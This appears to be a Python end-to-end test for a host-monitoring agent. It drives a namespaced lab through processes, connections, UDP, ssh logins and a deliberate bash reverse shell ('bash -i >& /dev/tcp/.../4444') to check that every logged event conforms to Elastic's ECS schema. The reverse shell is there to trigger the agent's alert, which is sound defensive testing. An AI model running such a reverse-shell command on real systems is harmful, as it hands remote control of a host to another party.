"""Issue 11, finding 18: every line a real agent writes conforms to Elastic's ECS schema
(tests/schema/ecs/ecs_flat-8.17.0.yml, checked by tests/lib/ecs_schema.py).

One run on host B of a lab (A, B, C in network namespaces, real sshd on B), with every kind of
line the agent writes: before the agent starts an ssh session from A is open, a listener and
an established connection exist (the existing_* snapshot lines); then fork/exec/exit, a
refused and an accepted TCP connection, a listen, UDP datagrams, a failed and a successful ssh
login and its logout, a reverse shell (an alert), the periodic connection_open report and the
agent's own agent-started/agent-stopped; the recording adds the clock ticks. Each of these
kinds must be present, and every line of the output and of the recording must conform."""
import os
import socket
import subprocess
import sys
import textwrap
import time

import ecs_schema
import hw
from hw import Agent, check, check_eq, get
from lab3 import ADDR, Lab3
from sshlab import SshServer, TestUser, kill_tree, ssh, ssh_popen

A, B, C = ADDR["a"], ADDR["b"], ADDR["c"]
# Listens on argv[1]:argv[2]; each connection gets argv[3] (escapes decoded) and is held open
# until the peer closes it.
SERVER = textwrap.dedent("""
    import socket, sys, threading
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); print("ready", flush=True)
    def serve(c):
        c.sendall(sys.argv[3].encode().decode("unicode_escape").encode())
        try:
            while c.recv(4096): pass
        except OSError: pass
        c.close()
    while True:
        c, _ = s.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
""")
KINDS = ["agent-started", "agent-stopped", "tick", "existing_process", "existing_listener",
         "existing_connection", "existing_session", "fork", "exec", "exit",
         "connection_attempted", "connection_accepted", "disconnect", "connection_open",
         "listen", "udp_flow", "user_login", "user_logout", "alert"]


def _action(e):
    """event.action, or metadata.event_code (its place in an OCSF line)."""
    return get(e, "event.action") or get(e, "metadata.event_code")


def _run(fmt="json"):
    """The lab run; fmt: the agent's -o (tests/e2e/test_ocsf_lines.py runs it with ocsf)."""
    d = hw.tempdir("ecslines")
    rec = os.path.join(d, "b.rec")
    py = sys.executable
    procs = []
    # sockets of another namespace held by a process that /proc lists before the lab's: the
    # snapshot must still find the owners of B's sockets (its owner table once filled up with
    # the first sockets of the host it saw, and B's listeners and sessions went unowned)
    others = [socket.socketpair() for _ in range(256)]

    def start(ns, argv):
        p = ns.popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                     stdin=subprocess.DEVNULL, text=True, start_new_session=True)
        procs.append(p)
        check_eq(p.stdout.readline().strip(), "ready", "daemon %r" % argv[2:4])
        return p

    with Lab3() as lab, SshServer(lab.b, B) as sb, TestUser("e") as u, \
            TestUser("p", password="Corr3ct-%s" % hw.RUN_ID) as pu:
        u.authorize(sb)
        try:
            start(lab.c, [py, "-c", SERVER, C, "7000", ""])
            start(lab.c, [py, "-c", SERVER, C, "4444", "id\\nexit\\n"])
            start(lab.b, [py, "-c", SERVER, B, "7100", ""])
            # established before the agent: B -> C:7000 held by a sleeping bash
            holder = lab.b.popen(["bash", "-c", "exec 3<>/dev/tcp/%s/7000; sleep 12" % C])
            procs.append(holder)
            # an ssh session open before the agent
            before = ssh_popen(lab.a, u, B, "echo up; sleep 12")
            procs.append(before)
            check_eq(before.stdout.readline().strip(), "up", "session up")
            time.sleep(1.0)
            agent = Agent("--netns", lab.b.path, "--host-name", "b", "--record", rec,
                          "--set", "detect.internal_nets=198.18.0.0/15",
                          "--set", "agent.conn_report_interval=2s", fmt=fmt)
            with agent:
                # refused, and accepted (A -> B:7100)
                lab.b.run(["bash", "-c", "echo > /dev/tcp/%s/9 2>/dev/null; true" % C])
                r = lab.a.run([py, "-c", "import socket; socket.create_connection(('%s', "
                               "7100), timeout=5).close()" % B], capture_output=True,
                              text=True, timeout=20)
                check_eq(r.returncode, 0, "connect to B: " + r.stderr)
                # listen, and UDP
                lab.b.run([py, "-c", "import socket; s = socket.socket(); "
                           "s.bind(('%s', 7200)); s.listen(); "
                           "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                           "u.sendto(b'x', ('%s', 5353)); u.sendto(b'y', ('%s', 53))"
                           % (B, C, C)], timeout=20)
                # a wrong password, then a login and its logout
                r = ssh(lab.a, pu, B, "true", password="wrong")
                check(r.returncode != 0, "a wrong password was accepted")
                r = ssh(lab.a, u, B, "true")
                check_eq(r.returncode, 0, "ssh: " + r.stderr)
                # a reverse shell (an alert)
                lab.b.run(["bash", "-c", "bash -i >& /dev/tcp/%s/4444 0>&1" % C],
                          capture_output=True, timeout=20)
                agent.wait_for(lambda e: _action(e) == "connection_open",
                               timeout=15)
                agent.wait_for(lambda e: _action(e) == "user_logout", timeout=15)
                time.sleep(1.0)
            check_eq(agent.rc, 0, "agent exit: " + agent.read_stderr())
        finally:
            for a, b in others:
                a.close()
                b.close()
            for p in reversed(procs):
                kill_tree(p.pid, p)
                for f in (p.stdout, p.stderr):
                    if f:
                        f.close()
    with open(rec, encoding="utf-8") as f:
        recorded = f.read().splitlines()
    return agent.lines(), recorded


def test_every_line_of_a_lab_run_conforms_to_ecs():
    lines, recorded = _run()
    kinds = set()
    for line in lines + recorded:
        ev = hw.parse_event(line)
        kinds.add("alert" if get(ev, "event.kind") == "alert" else get(ev, "event.action"))
    check_eq(sorted(k for k in KINDS if k not in kinds), [], "kinds of line missing from the run")
    snap = [hw.parse_event(x) for x in lines if '"action":"existing_' in x]
    check_eq([(get(e, "event.action"), get(e, "source.port")) for e in snap
              if get(e, "event.action") != "existing_process" and not get(e, "process.pid")],
             [], "snapshot sockets without their owner")
    errs = ecs_schema.validate_lines(lines, "output line") + \
        ecs_schema.validate_lines(recorded, "recorded line")
    check_eq(errs[:20], [], "ECS violations (%d in all)" % len(errs))
    check(len(lines) > 50, "lines checked: %d" % len(lines))
